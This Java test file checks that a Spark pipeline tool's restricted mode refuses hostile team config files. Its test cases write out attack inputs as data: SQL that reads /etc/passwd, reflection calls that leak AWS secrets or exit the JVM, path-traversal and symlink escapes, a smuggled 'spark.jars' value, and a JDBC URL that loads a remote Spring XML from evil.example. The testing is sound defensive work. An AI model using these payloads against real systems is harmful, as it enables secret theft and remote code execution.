package dev.eventproc.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.eventproc.cli.MainAccess;
import dev.eventproc.config.ConfigException;
import dev.eventproc.config.EventprocConfig;
import dev.eventproc.config.RestrictedMode;
import dev.eventproc.pipeline.PipelineConfig;
import dev.eventproc.testutils.TestSpark;
import java.io.IOException;
import java.io.Writer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Properties;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.regex.Pattern;
import org.apache.spark.scheduler.SparkListener;
import org.apache.spark.scheduler.SparkListenerJobStart;
import org.apache.spark.sql.SparkSession;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Config files from other teams, run with {@code eventproc run --restricted --paths-root ROOT} (issue 22):
 * each attack of the security review's probe, and the others the issue lists, is refused before any Spark
 * job runs, with exit status 2 and a message naming the key. A config that stays inside its limits runs.
 */
class HostileConfigTest {
  private static final String TEAM_SECRET = "EVENTPROC_TEAM_DB_PASSWORD";
  private final SparkSession spark = TestSpark.session();
  private final AtomicInteger jobs = new AtomicInteger();
  private final SparkListener jobCounter = new SparkListener() {
    @Override
    public void onJobStart(SparkListenerJobStart jobStart) {
      jobs.incrementAndGet();
    }
  };
  private Path dir;
  private Path root;
  private Path secrets;
  private Path outside;

  @BeforeEach
  void setUp() throws IOException {
    dir = TestSpark.newDir("hostile").toRealPath();
    root = Files.createDirectories(dir.resolve("teams/a"));
    secrets = Files.createDirectories(dir.resolve("secrets/a"));
    outside = Files.createDirectories(dir.resolve("teams/b"));
    Files.writeString(secrets.resolve("db-password"), "team-a-password\n");
    Files.writeString(outside.resolve("hostname"), "db-prod-17.internal\n");
    spark.sparkContext().addSparkListener(jobCounter);
  }

  @AfterEach
  void tearDown() {
    spark.sparkContext().removeSparkListener(jobCounter);
  }

  /** A pipeline of team a, all inside its root: files -> dedupe -> a Delta table and a derived totals table. */
  private Map<String, String> teamConfig() {
    Map<String, String> c = new LinkedHashMap<>();
    c.put("pipeline.name", "team_a_payments");
    c.put("checkpoint.location", root.resolve("cp").toString());
    c.put("trigger", "available-now");
    c.put("source.type", "files");
    c.put("source.files.path", root.resolve("in").toString());
    c.put("source.schema", "payment_id STRING, amount DECIMAL(12,2), currency STRING, version BIGINT, op STRING, "
        + "event_time TIMESTAMP");
    c.put("source.key.columns", "payment_id");
    c.put("source.event.time.column", "event_time");
    c.put("stage.type", "dedupe-first-seen");
    c.put("sinks", "lake,totals");
    c.put("sink.lake.type", "delta");
    c.put("sink.lake.mode", "upsert");
    c.put("sink.lake.key.columns", "payment_id");
    c.put("sink.lake.version.column", "version");
    c.put("sink.lake.delete.condition", "op = 'd' AND coalesce(amount, 0) >= 0");
    c.put("sink.lake.delta.path", root.resolve("tables/payments").toString());
    c.put("sink.totals.type", "delta");
    c.put("sink.totals.mode", "append");
    c.put("sink.totals.delta.path", root.resolve("tables/totals").toString());
    c.put("sink.totals.query", "SELECT batch_id, upper(currency) AS currency, count(*) AS n, sum(amount) AS total "
        + "FROM batch WHERE amount > 0 GROUP BY batch_id, upper(currency)");
    c.put("spark.sql.shuffle.partitions", "2");
    return c;
  }

  private Map<String, String> with(Consumer<Map<String, String>> change) {
    Map<String, String> c = teamConfig();
    change.accept(c);
    return c;
  }

  private Path write(Map<String, String> c) throws IOException {
    Properties p = new Properties();
    p.putAll(c);
    Path file = dir.resolve("job-" + System.nanoTime() + ".properties");
    try (Writer w = Files.newBufferedWriter(file)) {
      p.store(w, null);
    }
    return file;
  }

  private MainAccess.Run runRestricted(Map<String, String> c, String... more) throws IOException {
    String[] base = {"run", "--config", write(c).toString(), "--restricted", "--paths-root", root.toString(),
        "--secrets-dir", secrets.toString(), "--catalog-namespace", "team_a"};
    String[] args = Arrays.copyOf(base, base.length + more.length);
    System.arraycopy(more, 0, args, base.length, more.length);
    return MainAccess.run(n -> n.equals(TEAM_SECRET) ? "team-a-password" : null, args);
  }

  /** Every case is refused with exit 2 and a message naming its key; no Spark job ran for any of them. */
  private void assertRefused(Map<String, Map<String, String>> cases) throws Exception {
    SoftAssertions soft = new SoftAssertions();
    for (Map.Entry<String, Map<String, String>> e : cases.entrySet()) {
      MainAccess.Run run = runRestricted(e.getValue());
      soft.assertThat(run.status()).as("exit status for %s: %s", e.getKey(), run.err()).isEqualTo(2);
      String key = e.getKey().strip(); // trailing spaces only keep several cases of one key apart
      soft.assertThat(run.err()).as("names the key %s", key).containsPattern("(?m)(^|: |  - )" + Pattern.quote(key) + "(: | is )")
          .contains("restricted mode");
    }
    spark.sparkContext().listenerBus().waitUntilEmpty();
    soft.assertThat(jobs.get()).as("Spark jobs run while refusing").isZero();
    soft.assertAll();
  }

  @Test
  void aConfigInsideItsLimitsRuns() throws Exception {
    Path in = Files.createDirectories(root.resolve("in"));
    Files.writeString(in.resolve("part-0.json"), """
        {"payment_id":"p1","amount":10.50,"currency":"eur","version":1,"op":"c","event_time":"2026-01-01T00:00:00Z"}
        {"payment_id":"p2","amount":4.50,"currency":"eur","version":1,"op":"c","event_time":"2026-01-01T00:00:01Z"}
        {"payment_id":"p1","amount":10.50,"currency":"eur","version":1,"op":"c","event_time":"2026-01-01T00:00:00Z"}
        """);
    // Received on the events' day: whether they read as ahead of the source's clock must not depend on today's date.
    Files.setLastModifiedTime(in.resolve("part-0.json"), FileTime.from(Instant.parse("2026-01-01T01:00:00Z")));
    MainAccess.Run run = runRestricted(with(c -> {
      c.put("sinks", "lake"); // one table keeps the run short; the route query is accepted below
      c.keySet().removeIf(k -> k.startsWith("sink.totals."));
    }));
    assertThat(run.status()).as(run.err()).isZero();
    assertThat(spark.read().format("delta").load(root.resolve("tables/payments").toString()).count()).isEqualTo(2);

    RestrictedMode mode = RestrictedMode.resolve(true, root.toString(), secrets.toString(), "team_a", n -> null);
    PipelineConfig.from(EventprocConfig.of(teamConfig(), n -> null, mode));
    PipelineConfig.from(EventprocConfig.of(with(c -> {
      c.put("stage.type", "aggregate");
      c.put("stage.window.duration", "1 minute");
      c.put("stage.aggregates", "count(*) AS n, sum(CASE WHEN op = 'd' THEN 0 ELSE amount END) AS total, "
          + "max(date_format(event_time, 'yyyy-MM-dd')) AS day");
      c.put("sink.lake.mode", "append");
      c.remove("sink.lake.key.columns");
      c.remove("sink.lake.version.column");
      c.remove("sink.lake.delete.condition");
      c.put("spark.sql.catalog.team_lake", "org.apache.iceberg.spark.SparkCatalog");
      c.put("spark.sql.catalog.team_lake.type", "hadoop");
      c.put("spark.sql.catalog.team_lake.warehouse", root.resolve("iceberg").toString());
      c.put("sink.totals.type", "iceberg");
      c.remove("sink.totals.delta.path");
      c.put("sink.totals.iceberg.table", "team_lake.team_a.totals");
    }), n -> null, mode));
  }

  @Test
  void sqlFromConfigMayOnlySelectFromTheBatchWithAllowedFunctions() throws Exception {
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    // the probe: an INSERT (not a Command in Spark 3.5), a file reader, java_method, each in a route's query
    cases.put("sink.totals.query", with(c -> c.put("sink.totals.query",
        "INSERT OVERWRITE delta.`" + outside.resolve("table") + "` SELECT * FROM batch")));
    cases.put("sink.totals.query ", with(c -> c.put("sink.totals.query", "SELECT value FROM text.`/etc/passwd`")));
    cases.put("sink.totals.query  ", with(c -> c.put("sink.totals.query",
        "SELECT java_method('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS v FROM batch")));
    cases.put("sink.totals.query   ", with(c -> c.put("sink.totals.query", "SELECT * FROM range(10)")));
    cases.put("sink.totals.query    ", with(c -> c.put("sink.totals.query",
        "SELECT '${spark:spark.hadoop.fs.s3a.secret.key}' AS v FROM batch")));
    cases.put("sink.totals.query     ", with(c -> c.put("sink.totals.query",
        "SELECT * FROM batch WHERE payment_id IN (SELECT k FROM other_team.payments)")));
    cases.put("sink.totals.query      ", with(c -> c.put("sink.totals.query", "DROP TABLE other_team.payments")));
    // the probe: a delete condition that exits the JVM
    cases.put("sink.lake.delete.condition", with(c -> c.put("sink.lake.delete.condition",
        "op='d' OR java_method('java.lang.System','exit',0) IS NULL")));
    cases.put("sink.lake.delete.condition ", with(c -> c.put("sink.lake.delete.condition", "reflect('java.lang.Thread', 'sleep', 99999) IS NULL")));
    cases.put("sink.lake.delete.condition  ", with(c -> c.put("sink.lake.delete.condition", "rand() < 0.5")));
    // the same expr() path through the aggregate stage
    cases.put("stage.aggregates", with(c -> {
      c.put("stage.type", "aggregate");
      c.put("stage.window.duration", "1 minute");
      c.put("stage.aggregates", "count(*) AS n, max(java_method('java.lang.System', 'getenv', 'HOME')) AS h");
      c.put("sink.lake.mode", "append");
      c.remove("sink.lake.key.columns");
      c.remove("sink.lake.version.column");
      c.remove("sink.lake.delete.condition");
    }));
    assertRefused(cases);
  }

  @Test
  void sparkSettingsAreLimitedToADocumentedList() throws Exception {
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    cases.put("spark.executor.extraJavaOptions", with(c -> c.put("spark.executor.extraJavaOptions", "-javaagent:/tmp/x.jar")));
    cases.put("spark.plugins", with(c -> c.put("spark.plugins", "org.example.EvilPlugin")));
    cases.put("spark.jars", with(c -> c.put("spark.jars", outside.resolve("evil.jar").toString())));
    cases.put("spark.master", with(c -> c.put("spark.master", "spark://other-cluster:7077")));
    cases.put("spark.sql.shuffle.partitions", with(c -> c.put("spark.sql.shuffle.partitions", "2; spark.jars=x")));
    cases.put("spark.sql.catalog.spark_catalog", with(c -> c.put("spark.sql.catalog.spark_catalog", "org.example.Catalog")));
    assertRefused(cases);
  }

  @Test
  void everyPathIsConfinedToTheOperatorsRoot() throws Exception {
    Files.createSymbolicLink(root.resolve("link-out"), outside);
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    // paths.root in the file confines nothing: the operator's root holds, and the file may not set one
    cases.put("paths.root", with(c -> c.put("paths.root", "/")));
    cases.put("checkpoint.location", with(c -> c.put("checkpoint.location", outside.resolve("cp").toString())));
    cases.put("source.files.path", with(c -> c.put("source.files.path", root.resolve("link-out/in").toString())));
    cases.put("source.files.path ", with(c -> c.put("source.files.path", root.resolve("link-out") + "/../../b/in")));
    cases.put("source.files.path  ", with(c -> c.put("source.files.path", "in")));
    cases.put("sink.lake.delta.path", with(c -> c.put("sink.lake.delta.path", "file://" + outside.resolve("t"))));
    cases.put("sink.lake.delta.path ", with(c -> c.put("sink.lake.delta.path", "s3a://other-bucket/t")));
    cases.put("spark.sql.warehouse.dir", with(c -> c.put("spark.sql.warehouse.dir", outside.toString())));
    cases.put("spark.sql.catalog.lake.warehouse", with(c -> {
      c.put("spark.sql.catalog.lake", "org.apache.iceberg.spark.SparkCatalog");
      c.put("spark.sql.catalog.lake.type", "hadoop");
      c.put("spark.sql.catalog.lake.warehouse", outside.resolve("iceberg").toString());
    }));
    cases.put("spark.eventLog.dir", with(c -> c.put("spark.eventLog.dir", outside.resolve("events").toString())));
    cases.put("spark.hadoop.fs.defaultFS", with(c -> c.put("spark.hadoop.fs.defaultFS", "hdfs://other-nn:8020")));
    cases.put("sink.lake.iceberg.warehouse", with(c -> {
      c.put("sink.lake.type", "iceberg");
      c.remove("sink.lake.delta.path");
      c.put("sink.lake.iceberg.table", "lake.team_a.payments");
      c.put("sink.lake.iceberg.warehouse", outside.resolve("iceberg").toString());
    }));
    assertRefused(cases);
  }

  @Test
  void derivedPathsStayInsideTheRootToo() throws Exception {
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    // the root itself as a Delta path: its tombstones would go to <root>__tombstones, outside
    cases.put("sink.lake.delta.path", with(c -> c.put("sink.lake.delta.path", root.toString())));
    Files.createSymbolicLink(root.resolve("t__tombstones"), outside);
    cases.put("sink.lake.delta.path ", with(c -> c.put("sink.lake.delta.path", root.resolve("t").toString())));
    // the checkpoint as the root: the default quarantine <checkpoint>-quarantine lands outside
    cases.put("quarantine.delta.path", with(c -> c.put("checkpoint.location", root.toString())));
    // checked as <root>/m, written by java.nio to $CWD/file:<root>/m
    cases.put("metrics.file", with(c -> c.put("metrics.file", "file:" + root.resolve("m"))));
    assertRefused(cases);

    // reconcile's reports go to <checkpoint>-reconcile by default: a link there leads out
    Files.createSymbolicLink(root.resolve("cp-reconcile"), outside);
    MainAccess.Run run = MainAccess.run(n -> null, "reconcile", "--config", write(teamConfig()).toString(), "--restricted",
        "--paths-root", root.toString());
    assertThat(run.status()).as(run.err()).isEqualTo(2);
    assertThat(run.err()).contains("checkpoint.location: the report directory").contains("restricted mode");
    spark.sparkContext().listenerBus().waitUntilEmpty();
    assertThat(jobs.get()).isZero();
  }

  @Test
  void secretReferencesAreConfinedAndNeverEchoed() throws Exception {
    Path link = Files.createSymbolicLink(secrets.resolve("innocent"), outside.resolve("hostname"));
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    cases.put("sink.lake.mode", with(c -> c.put("sink.lake.mode", "${file:" + outside.resolve("hostname") + "}")));
    cases.put("sink.lake.mode ", with(c -> c.put("sink.lake.mode", "${file:" + link + "}")));
    cases.put("sink.lake.mode  ", with(c -> c.put("sink.lake.mode", "${env:AWS_SECRET_ACCESS_KEY}")));
    assertRefused(cases);
    MainAccess.Run run = runRestricted(with(c -> c.put("sink.lake.mode", "${file:" + outside.resolve("hostname") + "}")));
    assertThat(run.err()).doesNotContain("db-prod-17");
    run = runRestricted(with(c -> c.put("sink.lake.mode", "${file:" + secrets.resolve("db-password") + "}")));
    assertThat(run.err()).as("a team secret in the wrong key is refused without being shown").contains("sink.lake.mode")
        .doesNotContain("team-a-password");
  }

  @Test
  void catalogTablesStayInTheOperatorsNamespace() throws Exception {
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    cases.put("sink.lake.delta.table", with(c -> {
      c.remove("sink.lake.delta.path");
      c.put("sink.lake.delta.table", "other_team.payments");
    }));
    cases.put("sink.lake.iceberg.table", with(c -> {
      c.put("sink.lake.type", "iceberg");
      c.remove("sink.lake.delta.path");
      c.put("sink.lake.iceberg.table", "lake.other_team.payments");
    }));
    cases.put("reconcile.source.table", with(c -> c.put("reconcile.source.table", "other_team.raw_events")));
    assertRefused(cases);
  }

  @Test
  void kafkaAndPostgresSettingsCannotLoadClassesOrReadFiles() throws Exception {
    Consumer<Map<String, String>> kafka = c -> {
      c.put("source.type", "kafka");
      c.remove("source.files.path");
      c.put("source.kafka.bootstrap.servers", "kafka:9092");
      c.put("source.kafka.topic", "team_a_payments");
    };
    Map<String, Map<String, String>> cases = new LinkedHashMap<>();
    cases.put("source.kafka.option.kafka.ssl.truststore.location", with(kafka.andThen(c ->
        c.put("source.kafka.option.kafka.ssl.truststore.location", outside.resolve("truststore.jks").toString()))));
    cases.put("source.kafka.option.subscribePattern", with(kafka.andThen(c -> c.put("source.kafka.option.subscribePattern", ".*"))));
    cases.put("source.kafka.option.kafka.config.providers", with(kafka.andThen(c ->
        c.put("source.kafka.option.kafka.config.providers", "file"))));
    cases.put("sink.lake.kafka.producer.ssl.keystore.location", with(c -> {
      c.put("sink.lake.type", "kafka");
      c.remove("sink.lake.delta.path");
      c.remove("sink.lake.version.column");
      c.remove("sink.lake.delete.condition");
      c.put("sink.lake.mode", "append");
      c.put("sink.lake.kafka.bootstrap.servers", "kafka:9092");
      c.put("sink.lake.kafka.topic", "out");
      c.put("sink.lake.kafka.producer.ssl.keystore.location", "/home/operator/.keystore");
    }));
    cases.put("sink.lake.postgres.url", with(c -> {
      c.put("sink.lake.type", "postgres");
      c.remove("sink.lake.delta.path");
      c.put("sink.lake.postgres.table", "payments");
      c.put("sink.lake.postgres.url", "jdbc:postgresql://db:5432/app?socketFactory=org.springframework.context.support."
          + "ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml");
    }));
    cases.put("sink.lake.postgres.url ", with(c -> {
      c.put("sink.lake.type", "postgres");
      c.remove("sink.lake.delta.path");
      c.put("sink.lake.postgres.table", "payments");
      c.put("sink.lake.postgres.url", "jdbc:postgresql://db:5432/app?loggerFile=" + outside.resolve("log"));
    }));
    assertRefused(cases);
  }

  @Test
  void resetInRestrictedModeRefusesTheRoot() throws Exception {
    Files.createDirectories(root.resolve("offsets"));
    Files.writeString(root.resolve("metadata"), "{}");
    Files.writeString(root.resolve("eventproc-fingerprint.properties"), "");
    Map<String, String> c = teamConfig();
    c.put("checkpoint.location", root.toString());
    c.put("quarantine.delta.path", root.resolve("quarantine").toString());
    MainAccess.Run run = runRestricted(c, "--reset-checkpoint");
    assertThat(run.status()).as(run.err()).isEqualTo(2);
    assertThat(run.err()).contains("checkpoint.location");
    assertThat(root.resolve("metadata")).exists();
  }

  @Test
  void inDefaultModePathsRootReadsTheMetricsFileAsJavaNioOpensIt() throws Exception {
    Files.createSymbolicLink(root.resolve("link-out"), outside.resolve("deep"));
    Files.createDirectories(outside.resolve("deep"));
    for (String metrics : new String[] {"file:" + root.resolve("m.jsonl"), root.resolve("link-out") + "/../m.jsonl"}) {
      Map<String, String> c = teamConfig();
      c.put("paths.root", root.toString());
      c.put("metrics.file", metrics);
      assertThatThrownBy(() -> PipelineConfig.from(EventprocConfig.of(c))).as(metrics).isInstanceOf(ConfigException.class)
          .hasMessageContaining("metrics.file: '" + metrics + "' is outside paths.root");
    }
  }

  @Test
  void theOperatorTurnsRestrictedModeOnAndTheFileCannotTurnItOff() {
    assertThat(RestrictedMode.resolve(false, null, null, null, n -> null)).isNull();
    RestrictedMode fromEnv = RestrictedMode.resolve(false, null, null, null, n -> switch (n) {
      case RestrictedMode.ENV_RESTRICTED -> "true";
      case RestrictedMode.ENV_PATHS_ROOT -> root.toString();
      default -> null;
    });
    assertThat(fromEnv.pathsRoot()).isEqualTo(root.toString());
    assertThatThrownBy(() -> RestrictedMode.resolve(true, null, null, null, n -> null))
        .isInstanceOf(ConfigException.class).hasMessageStartingWith("Invalid configuration: --paths-root");
    assertThatThrownBy(() -> RestrictedMode.resolve(false, root.toString(), null, null, n -> null))
        .isInstanceOf(ConfigException.class).hasMessageContaining("--restricted");
    // the file has no key that turns it off: paths.root is refused, anything else is an unknown key
    Map<String, String> c = teamConfig();
    c.put("paths.root", "/");
    c.put("restricted", "false");
    assertThatThrownBy(() -> PipelineConfig.from(EventprocConfig.of(c, n -> null, fromEnv)))
        .isInstanceOf(ConfigException.class).hasMessageContaining("paths.root is set by the operator")
        .hasMessageContaining("restricted: unknown key");
  }
}
